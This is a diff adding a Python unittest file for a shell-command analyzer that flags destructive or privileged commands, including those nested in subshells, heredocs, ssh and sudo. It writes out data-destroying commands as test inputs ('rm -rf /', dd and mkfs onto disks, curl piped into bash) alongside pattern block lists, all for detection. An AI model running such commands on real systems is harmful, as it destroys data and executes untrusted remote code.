@@ -0,0 +1,242 @@
+import sys
+import unittest
+from pathlib import Path
+
+PROJECT_ROOT = Path(__file__).resolve().parents[1]
+if str(PROJECT_ROOT) not in sys.path:
+    sys.path.insert(0, str(PROJECT_ROOT))
+APP_DIR = PROJECT_ROOT / "app"
+if str(APP_DIR) not in sys.path:
+    sys.path.insert(0, str(APP_DIR))
+
+import command_analyzer  # noqa: E402
+from command_analyzer import analyze_command, format_finding  # noqa: E402
+from config import Config  # noqa: E402
+
+
+def flagged(command):
+    # (pattern, segment) pairs found under the default policy
+    return [
+        (f["pattern"], f["segment"]) for f in analyze_command(command, Config.SECURITY)
+    ]
+
+
+class CommandSplittingTests(unittest.TestCase):
+    def test_each_simple_command_is_a_segment(self):
+        findings = analyze_command(
+            "uptime && sudo reboot; df -h | mount -a", Config.SECURITY
+        )
+        self.assertEqual(
+            [(f["index"], f["segment"], f["rule"]) for f in findings],
+            [
+                (2, "sudo reboot", "require_confirmation"),
+                (4, "mount -a", "require_confirmation"),
+            ],
+        )
+
+    def test_command_substitution_and_subshells(self):
+        self.assertEqual(flagged("echo $(rm -rf /srv)"), [("rm -rf", "rm -rf /srv")])
+        self.assertEqual(flagged("echo `passwd`"), [("passwd", "passwd")])
+        self.assertEqual(flagged("(cd /; mkfs.ext4 /dev/sdb)")[0][0], "mkfs")
+
+    def test_heredoc_body_is_analyzed(self):
+        findings = analyze_command(
+            "cat <<'EOF' | bash\nrm -rf /srv/data\nEOF\necho done", Config.SECURITY
+        )
+        self.assertEqual(
+            [(f["pattern"], f["context"], f["segment"]) for f in findings],
+            [
+                ("| bash", "command", "bash"),
+                ("rm -rf", "heredoc", "rm -rf /srv/data"),
+            ],
+        )
+
+    def test_nested_shell_scripts(self):
+        findings = analyze_command(
+            "bash -c 'dd if=/dev/zero of=/dev/sda'", Config.SECURITY
+        )
+        self.assertEqual(findings[0]["pattern"], "dd if=")
+        self.assertEqual(findings[0]["context"], "nested")
+        self.assertIn("usermod", [p for p, _ in flagged("su -c 'usermod -aG x y'")])
+
+
+class QuotedPayloadTests(unittest.TestCase):
+    def rules(self, command):
+        return [
+            (f["rule"], f["pattern"]) for f in analyze_command(command, Config.SECURITY)
+        ]
+
+    def test_pipe_into_shell_is_dangerous(self):
+        self.assertEqual(
+            self.rules("echo 'rm -rf /' | sh"), [("dangerous_commands", "| sh")]
+        )
+        self.assertEqual(
+            self.rules("base64 -d x | bash"), [("dangerous_commands", "| bash")]
+        )
+        self.assertIn(
+            ("dangerous_commands", "| bash"),
+            self.rules("curl -s https://x | sudo /bin/bash -s"),
+        )
+        # The shell runs its -c script, not the piped input
+        self.assertEqual(self.rules("echo x | bash -c cat"), [])
+        self.assertEqual(self.rules("ps aux | grep sh"), [])
+
+    def test_shell_c_script(self):
+        self.assertEqual(
+            self.rules('bash -c "rm -rf /"'), [("dangerous_commands", "rm -rf")]
+        )
+        self.assertEqual(
+            self.rules("zsh -c 'rm -rf /'"), [("dangerous_commands", "rm -rf")]
+        )
+
+    def test_ssh_remote_command(self):
+        self.assertEqual(
+            self.rules('ssh x "rm -rf /"'), [("dangerous_commands", "rm -rf")]
+        )
+        self.assertEqual(
+            self.rules("ssh -p 22 -o BatchMode=yes -tt x 'mkfs.ext4 /dev/sdb'"),
+            [("dangerous_commands", "mkfs")],
+        )
+        self.assertEqual(self.rules("ssh web uptime"), [])
+
+    def test_quoted_arguments_of_wrappers(self):
+        self.assertIn(("dangerous_commands", "rm -rf"), self.rules('sudo "rm -rf /"'))
+        self.assertIn(
+            ("dangerous_commands", "rm -rf"), self.rules('sudo -u root "rm -rf /"')
+        )
+        self.assertEqual(
+            self.rules('ls | xargs "rm -rf"'), [("dangerous_commands", "rm -rf")]
+        )
+
+    def test_eval(self):
+        self.assertEqual(
+            self.rules('eval "rm -rf /"'), [("dangerous_commands", "rm -rf")]
+        )
+
+
+class CommandClassificationTests(unittest.TestCase):
+    def test_quoted_arguments_and_plain_words_are_not_commands(self):
+        self.assertEqual(flagged("echo 'rm -rf /'"), [])
+        self.assertEqual(flagged("grep sudo /var/log/auth.log"), [])
+        self.assertEqual(flagged("echo result"), [])
+
+    def test_quoting_and_paths_do_not_hide_commands(self):
+        self.assertEqual(flagged("r''m -rf /tmp/x")[0][0], "rm -rf")
+        self.assertEqual(flagged("\\rm -rf /tmp/x")[0][0], "rm -rf")
+        self.assertEqual(flagged("/usr/sbin/fdisk -l")[0][0], "fdisk")
+
+    def test_wrapped_commands(self):
+        self.assertEqual(
+            [p for p, _ in flagged("sudo -u root systemctl restart nginx")],
+            ["sudo", "systemctl"],
+        )
+        self.assertEqual(flagged("ls | xargs chown root")[0][0], "chown")
+        self.assertEqual(flagged("find . -exec chmod 777 {} +")[0][0], "chmod 777")
+        self.assertEqual(flagged("FOO=1 crontab -l")[0][0], "crontab")
+        # Paths are only command names at the command word or under a bin dir
+        self.assertEqual([p for p, _ in flagged("sudo cat /tmp/mkfs")], ["sudo"])
+
+    def test_redirections(self):
+        self.assertEqual(flagged("echo x >/dev/sda")[0][0], "> /dev/")
+        self.assertEqual(flagged("cat /etc/hosts 2>/dev/null"), [])
+        self.assertEqual(flagged("ls > /dev/stdout"), [])
+
+    def test_unbalanced_quotes_fall_back_to_text_matching(self):
+        self.assertEqual(flagged("rm -rf '/tmp/x")[0][0], "rm -rf")
+        self.assertEqual(flagged("echo 'result"), [])
+
+
+class AnalyzeCommandTests(unittest.TestCase):
+    def test_results_are_cached_per_command(self):
+        command_analyzer._analyze.cache_clear()
+        analyze_command("sudo ls", Config.SECURITY)
+        analyze_command("sudo ls", Config.SECURITY)
+        info = command_analyzer._analyze.cache_info()
+        self.assertEqual((info.hits, info.misses), (1, 1))
+
+    def test_cached_findings_are_copies(self):
+        analyze_command("sudo ls", Config.SECURITY)[0]["pattern"] = "changed"
+        self.assertEqual(
+            analyze_command("sudo ls", Config.SECURITY)[0]["pattern"], "sudo"
+        )
+
+    def test_policy_changes_take_effect(self):
+        policy = {"dangerous_commands": ["shred"], "require_confirmation": []}
+        self.assertEqual(analyze_command("sudo ls", policy), [])
+        self.assertEqual(analyze_command("shred -u f", policy)[0]["pattern"], "shred")
+
+    def test_format_finding(self):
+        finding = analyze_command("ls; rm -rf /srv", Config.SECURITY)[0]
+        self.assertEqual(
+            format_finding(finding), "#2 rm -rf /srv: dangerous ('rm -rf')"
+        )
+
+
+class ConfigIntegrationTests(unittest.TestCase):
+    def test_check_dangerous_command_reports_findings(self):
+        result = Config.check_dangerous_command("uptime; rm -rf /srv")
+        self.assertTrue(result["is_dangerous"])
+        self.assertEqual(result["findings"][0]["segment"], "rm -rf /srv")
+
+    def test_requires_confirmation_ignores_dangerous_only_findings(self):
+        self.assertFalse(Config.requires_confirmation("rm -rf /tmp/x"))
+        self.assertTrue(Config.requires_confirmation("echo ok && sudo ls"))
+
+
+# Patterns of the original substring checks; every one must still be caught
+BASELINE_DANGEROUS = [
+    "rm -rf",
+    "dd if=",
+    "mkfs",
+    "format",
+    "fdisk",
+    "> /dev/",
+    "chmod 777",
+    "chmod -R 777",
+]
+BASELINE_CONFIRMATION = [
+    "sudo",
+    "su",
+    "passwd",
+    "usermod",
+    "userdel",
+    "systemctl",
+    "service",
+    "mount",
+    "umount",
+    "fdisk",
+    "parted",
+    "crontab",
+    "chown",
+    "chmod 777",
+    "chmod +x",
+]
+
+
+def sample_command(pattern):
+    if pattern.startswith(">"):
+        return f"echo x {pattern}sda"
+    return f"{pattern}/dev/sda" if pattern.endswith("=") else f"{pattern} /srv/x"
+
+
+class BaselineRegressionTests(unittest.TestCase):
+    def test_every_dangerous_pattern_is_still_dangerous(self):
+        for pattern in BASELINE_DANGEROUS:
+            with self.subTest(pattern=pattern):
+                command = sample_command(pattern)
+                self.assertTrue(Config.check_dangerous_command(command)["is_dangerous"])
+
+    def test_every_confirmation_pattern_still_requires_confirmation(self):
+        for pattern in BASELINE_CONFIRMATION:
+            with self.subTest(pattern=pattern):
+                self.assertTrue(Config.requires_confirmation(sample_command(pattern)))
+
+    def test_pattern_in_both_lists_keeps_both_findings(self):
+        for command in ("fdisk /dev/sda", "chmod 777 /etc"):
+            with self.subTest(command=command):
+                self.assertTrue(Config.check_dangerous_command(command)["is_dangerous"])
+                self.assertTrue(Config.requires_confirmation(command))
+
+
+if __name__ == "__main__":  # pragma: no cover
+    unittest.main()